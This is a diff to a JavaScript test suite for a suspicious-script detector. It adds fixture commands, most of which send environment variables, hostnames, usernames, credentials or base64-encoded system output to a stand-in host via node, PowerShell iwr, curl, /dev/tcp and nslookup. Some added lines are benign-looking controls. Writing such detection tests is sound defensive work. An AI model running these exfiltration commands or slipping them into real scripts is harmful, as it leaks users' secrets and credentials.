@@ -99,6 +99,11 @@ describe('suspicious scripts', () => {
     ],
     'sends-data: node -e …': [
       "node -e \"fetch('https://x.example.test',{method:'POST',body:JSON.stringify(process.env)})\"",
+      "node -e \"const o=require('os');require('https').get('https://x.example.test/?h='+o.hostname()+'&u='+o.userInfo().username)\"",
+    ],
+    'sends-data: iwr … -Body …': [
+      'powershell -NoP -C "$d=@{c=$env:COMPUTERNAME}|ConvertTo-Json; iwr -Method Post -Uri https://x.example.test -Body $d"',
+      'pwsh -c "$b = gci env: | Out-String; iwr https://x.example.test -Method Post -Body $b"',
     ],
     'sends-data: … > /dev/tcp': ['cat ~/.aws/credentials > /dev/tcp/203.0.113.7/80'],
     'system-tool: certutil …': ['certutil -urlcache -f https://x.example.test/a.exe a.exe && a.exe'],
@@ -111,6 +116,8 @@ describe('suspicious scripts', () => {
       'curl -d "h=$(hostname)" https://x.example.test',
       'curl -X POST -d "`env`" https://x.example.test',
       'curl "https://x.example.test/%USERNAME%"',
+      'curl -d "u=$(id | base64)" https://x.example.test',
+      'curl -d "d=$(date -u | tr -d :)&e=$(printenv | base64)" https://x.example.test',
     ],
     'sends-data: nslookup … $(…)': ['nslookup $(whoami).x.example.test'],
     'sends-data: nslookup … (a variable)': [
@@ -188,6 +195,9 @@ describe('suspicious scripts', () => {
       'curl -X POST -H "Authorization: Bearer $NPM_TOKEN" https://x.example.test/hook',
       'echo $FILE | base64 -d > google.json && node sign.js google.json',
       'wget -qO- https://x.example.test/v.json | jq -r .v > v.txt && node build.js',
+      'docker run -u $(id -u):$(id -g) x && curl -f https://x.example.test/$(git rev-parse HEAD | cut -c1-7)',
+      'powershell -c "iwr https://x.example.test/$env:PROCESSOR_ARCHITECTURE/a.zip -OutFile a.zip"',
+      "node -e \"require('https').get('http://localhost:3000/'+require('os').hostname())\"",
       'source ~/.bashrc && nvm use',
       'H=$(hostname) && curl -f http://$H:8080/health',
       'T=$(uname -s); curl -L https://x.example.test/$T/a.zip -o a.zip',
